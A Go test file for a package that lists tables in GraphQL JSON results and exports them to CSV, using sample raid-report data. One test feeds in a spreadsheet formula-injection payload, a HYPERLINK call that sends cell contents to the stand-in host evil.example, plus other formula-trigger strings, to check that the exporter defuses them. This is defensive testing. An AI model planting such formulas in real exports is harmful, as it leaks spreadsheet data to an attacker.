package gqlwork

import (
	"reflect"
	"testing"
)

const reportsResult = `{"reportData":{"reports":{"total":2,"data":[
 {"code":"a1","title":"Raid, night 1","startTime":1700000000000,"zone":{"name":"Nerub-ar Palace","id":38},"tags":["x","y"]},
 {"code":"b2","title":"Say \"hi\"","startTime":1700000001000.5,"zone":null,"owner":{"name":"Alice"}}
]}},"userData":{"currentUser":{"guilds":[{"name":"G","server":{"region":{"compactName":"EU"}}}],"characters":[]}}}`

func TestTables(t *testing.T) {
	got, err := Tables([]byte(reportsResult))
	if err != nil {
		t.Fatal(err)
	}
	want := []Table{{Path: []string{"reportData", "reports", "data"}, Rows: 2}, {Path: []string{"userData", "currentUser", "guilds"}, Rows: 1}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Tables = %+v, want %+v (an empty list is no table)", got, want)
	}
	if got, _ := Tables([]byte(`{"a":[1,2],"b":{"c":"d"}}`)); len(got) != 0 {
		t.Errorf("a list of numbers is a table: %+v", got)
	}
	if _, err := Tables([]byte(`{"a":`)); err == nil {
		t.Errorf("broken JSON gave tables")
	}
}

func TestCSV(t *testing.T) {
	got, err := CSV([]byte(reportsResult), []string{"reportData", "reports", "data"})
	if err != nil {
		t.Fatal(err)
	}
	want := "code,title,startTime,zone.name,zone.id,tags,owner.name\r\n" +
		"a1,\"Raid, night 1\",1700000000000,Nerub-ar Palace,38,\"[\"\"x\"\",\"\"y\"\"]\",\r\n" +
		"b2,\"Say \"\"hi\"\"\",1700000001000.5,,,,Alice\r\n"
	if got != want {
		t.Errorf("CSV =\n%s\nwant\n%s", got, want)
	}
	g, err := CSV([]byte(reportsResult), []string{"userData", "currentUser", "guilds"})
	if err != nil || g != "name,server.region.compactName\r\nG,EU\r\n" {
		t.Errorf("guilds CSV = %q, %v", g, err)
	}
	for _, path := range [][]string{{"reportData", "reports", "total"}, {"nope"}, {"reportData", "reports", "data", "code"}} {
		if _, err := CSV([]byte(reportsResult), path); err == nil {
			t.Errorf("CSV at %v: no error, want one (not a list of objects)", path)
		}
	}
}

// A report title anyone in a guild can choose must not become a formula in
// the spreadsheet that opens the export; negative numbers stay numbers.
func TestCSVDefusesFormulas(t *testing.T) {
	result := `{"reports":[
 {"title":"=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")","n":-3},
 {"title":"+1+1","n":1},{"title":"-2","n":2},{"title":"@SUM(A1)","n":3},
 {"title":"\tx","n":4},{"title":"\rx","n":5},{"title":"a=b","n":6},{"title":"","n":7}]}`
	got, err := CSV([]byte(result), []string{"reports"})
	if err != nil {
		t.Fatal(err)
	}
	want := "title,n\r\n" +
		"\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\",-3\r\n" +
		"'+1+1,1\r\n'-2,2\r\n'@SUM(A1),3\r\n'\tx,4\r\n\"'x\",5\r\na=b,6\r\n,7\r\n" // encoding/csv drops a lone CR
	if got != want {
		t.Errorf("CSV =\n%q\nwant\n%q", got, want)
	}
}
